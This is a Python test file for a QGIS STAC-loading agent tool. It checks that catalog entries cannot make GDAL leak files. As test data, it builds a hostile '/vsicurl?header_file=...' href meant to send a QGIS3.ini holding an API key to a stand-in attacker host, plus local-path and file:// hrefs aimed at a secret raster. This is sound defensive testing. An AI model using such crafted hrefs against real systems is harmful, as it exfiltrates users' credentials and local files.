"""The analyst's own agent is not limited to public hosts, but a catalog still cannot make GDAL send a local file to
another host, nor make a catalog read over HTTP yield a file of this computer (issue 40.3, 40.4): the dock's
in-process server, a recording server on a second loopback address (127.0.0.2), the profile's QGIS3.ini."""

from __future__ import annotations

import httpx
import pytest
from osgeo import gdal
from qgis.core import QgsProject

from stacgis_agent.tools.server import build_server
from testkit.servers.canvas_servers import canvas_deps, gdal_test_config
from testkit.servers.cog_server import CogServer
from testkit.servers.mcp_calls import OneShotClient
from testkit.servers.redirect_attacker import AttackerHost
from testkit.worlds.cogs import smooth_field, write_cog
from testkit.worlds.tiny_catalog import write_dated_collection

SECRET_KEY = "TOP-SECRET-KEY-40-3"


@pytest.fixture
def recorder(tmp_path):
    (tmp_path / "served").mkdir()
    attacker = AttackerHost(tmp_path / "served").start()
    with gdal_test_config():
        allowed = gdal.GetConfigOption("CPL_VSIL_CURL_ALLOWED_EXTENSIONS")
        gdal.SetConfigOption("CPL_VSIL_CURL_ALLOWED_EXTENSIONS", None)  # as in QGIS: no filter on the path's suffix
        try:
            yield attacker
        finally:
            gdal.SetConfigOption("CPL_VSIL_CURL_ALLOWED_EXTENSIONS", allowed)
            attacker.stop()
            QgsProject.instance().removeAllMapLayers()


async def _load(iface, catalog_url: str, work, item_id: str):
    async with httpx.AsyncClient() as http:
        client = OneShotClient(build_server(canvas_deps(http, catalog_url, str(work), iface), canvas=True))
        return await client.call_tool("load_stac_asset", {"collection": "loot", "item_id": item_id})


async def test_a_catalog_href_cannot_make_gdal_send_qgis3_ini_to_another_host(recorder, qgis_iface, qgis_new_project,
                                                                              tmp_path):
    ini = tmp_path / "profile" / "QGIS" / "QGIS3.ini"
    ini.parent.mkdir(parents=True)
    ini.write_text(f"[stac]\napikey: {SECRET_KEY}\n")
    write_cog(tmp_path / "served" / "x.tif", smooth_field(16, 16, seed=5), origin=(5.0, 45.5), pixel_size=0.01)
    catalog = write_dated_collection(tmp_path / "catalog", "loot", "data", [
        f"/vsicurl?header_file={ini}&url=http://127.0.0.2:{recorder.port}/x.tif"])
    result = await _load(qgis_iface, str(catalog), tmp_path / "out", "item-0")
    assert result.is_error and "GDAL's own syntax" in result.content[0].text, result.content[0].text
    assert recorder.seen == [] and not recorder.carried(SECRET_KEY)
    assert not QgsProject.instance().mapLayers()


async def test_a_catalog_read_over_http_never_yields_a_local_file(recorder, qgis_iface, qgis_new_project, tmp_path):
    secret = tmp_path / "home" / "secret.tif"
    secret.parent.mkdir()
    write_cog(secret, smooth_field(16, 16, seed=6), origin=(5.0, 45.5), pixel_size=0.01)
    write_dated_collection(tmp_path / "remote", "loot", "data", [str(secret), f"file://{secret}"])
    served = CogServer(tmp_path / "remote").start()
    try:
        absolute = await _load(qgis_iface, served.href("catalog.json"), tmp_path / "out", "item-0")
        file_url = await _load(qgis_iface, served.href("catalog.json"), tmp_path / "out", "item-1")
    finally:
        served.stop()
    assert absolute.is_error and file_url.is_error, (absolute.content[0].text, file_url.content[0].text)
    assert not QgsProject.instance().mapLayers()  # the secret raster was never opened, so never added
    assert "/vsicurl/http://127.0.0.1" in absolute.content[0].text or "127.0.0.1" in absolute.content[0].text

